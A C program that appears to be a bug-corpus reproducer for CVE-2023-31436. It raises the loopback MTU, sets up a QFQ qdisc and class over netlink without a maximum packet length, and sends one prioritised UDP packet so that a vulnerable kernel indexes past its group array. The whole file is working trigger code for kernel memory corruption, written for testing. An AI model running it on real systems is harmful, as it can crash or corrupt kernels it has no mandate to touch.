// SPDX-License-Identifier: GPL-2.0
/*
 * CVE-2023-31436 trigger (MTU path), written for krr's bug corpus from the fix (3037933448f6):
 * the loopback device's MTU is raised (any user with CAP_NET_ADMIN may) and a QFQ root qdisc on it
 * gets a class without an explicit maximum packet length, so the kernel takes the MTU plus header,
 * far over QFQ's limit. The class's aggregate lands in a group one past the end of the qdisc's
 * group array; the first packet classified to it (by its socket priority) makes the enqueue use
 * that group.
 */
#include <arpa/inet.h>
#include <linux/netlink.h>
#include <linux/pkt_sched.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define QDISC_HANDLE 0x10000u	/* 1: */
#define CLASS_ID 0x10001u	/* 1:1 */
/*
 * lmax = MTU + 14; with lo's 8 classes per aggregate QFQ's group index is floor(log2(lmax)) + 6,
 * so an lmax in [2^19, 2^20) gives index 25, one past q->groups[QFQ_MAX_INDEX].
 */
#define LO_MTU 600000

struct request {
	struct nlmsghdr nh;
	struct tcmsg tc;
	char attrs[256];
};

/* Appends attribute TYPE with LEN bytes of DATA; returns it (for nesting). */
static struct rtattr *add_attr(struct request *r, int type, const void *data, int len)
{
	struct rtattr *rta = (struct rtattr *)((char *)r + NLMSG_ALIGN(r->nh.nlmsg_len));

	rta->rta_type = type;
	rta->rta_len = RTA_LENGTH(len);
	if (len)
		memcpy(RTA_DATA(rta), data, len);
	r->nh.nlmsg_len = NLMSG_ALIGN(r->nh.nlmsg_len) + RTA_ALIGN(rta->rta_len);
	return rta;
}

/* Sends one tc request and waits for its acknowledgement; 0 or the negative errno. */
static int talk(int nl, struct request *r)
{
	char buf[4096];
	struct nlmsghdr *nh = (struct nlmsghdr *)buf;
	ssize_t n;

	if (send(nl, r, r->nh.nlmsg_len, 0) < 0)
		return -1;
	n = recv(nl, buf, sizeof(buf), 0);
	if (n < (ssize_t)NLMSG_LENGTH(sizeof(struct nlmsgerr)) || nh->nlmsg_type != NLMSG_ERROR)
		return -1;
	return ((struct nlmsgerr *)NLMSG_DATA(nh))->error;
}

static void start(struct request *r, int type, int ifindex, unsigned int handle, unsigned int parent)
{
	memset(r, 0, sizeof(*r));
	r->nh.nlmsg_len = NLMSG_LENGTH(sizeof(struct tcmsg));
	r->nh.nlmsg_type = type;
	r->nh.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL;
	r->tc.tcm_family = AF_UNSPEC;
	r->tc.tcm_ifindex = ifindex;
	r->tc.tcm_handle = handle;
	r->tc.tcm_parent = parent;
	add_attr(r, TCA_KIND, "qfq", 4);
}

int main(void)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
	struct request r;
	struct rtattr *opts;
	unsigned int weight = 1, prio = CLASS_ID;
	int ifindex = if_nametoindex("lo"), nl, udp, err;

	nl = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	if (!ifindex || nl < 0) {
		perror("lo / netlink");
		return 1;
	}
	struct ifreq ifr = { .ifr_mtu = LO_MTU };

	strcpy(ifr.ifr_name, "lo");
	if (ioctl(nl, SIOCSIFMTU, &ifr) < 0) {
		perror("SIOCSIFMTU lo");
		return 1;
	}
	start(&r, RTM_NEWQDISC, ifindex, QDISC_HANDLE, TC_H_ROOT);
	err = talk(nl, &r);
	if (err) {
		fprintf(stderr, "qfq qdisc on lo: %s\n", strerror(-err));
		return 1;
	}
	/* A class with a weight and no TCA_QFQ_LMAX: lmax = psched_mtu(lo). */
	start(&r, RTM_NEWTCLASS, ifindex, CLASS_ID, QDISC_HANDLE);
	opts = add_attr(&r, TCA_OPTIONS | NLA_F_NESTED, NULL, 0);
	add_attr(&r, TCA_QFQ_WEIGHT, &weight, sizeof(weight));
	opts->rta_len = (char *)&r + r.nh.nlmsg_len - (char *)opts;
	err = talk(nl, &r);
	if (err) {
		fprintf(stderr, "qfq class 1:1 (a fixed kernel refuses the MTU): %s\n", strerror(-err));
		return 1;
	}
	/* A packet whose priority names class 1:1. */
	udp = socket(AF_INET, SOCK_DGRAM, 0);
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (udp < 0 || setsockopt(udp, SOL_SOCKET, SO_PRIORITY, &prio, sizeof(prio)) < 0) {
		perror("udp socket / SO_PRIORITY");
		return 1;
	}
	if (sendto(udp, "krr", 3, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		perror("sendto");
	printf("no report: the kernel is not vulnerable\n");
	return 0;
}
